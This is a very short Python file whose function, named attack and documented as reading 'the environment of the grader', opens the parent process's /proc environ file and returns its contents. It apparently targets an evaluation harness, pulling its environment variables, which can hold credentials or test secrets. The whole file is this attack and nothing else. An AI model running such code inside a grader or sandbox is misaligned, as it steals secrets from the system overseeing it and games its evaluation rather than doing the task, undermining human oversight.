"""Read the environment of the grader."""
import os


def attack():
    return open(f"/proc/{os.getppid()}/environ", "rb").read()
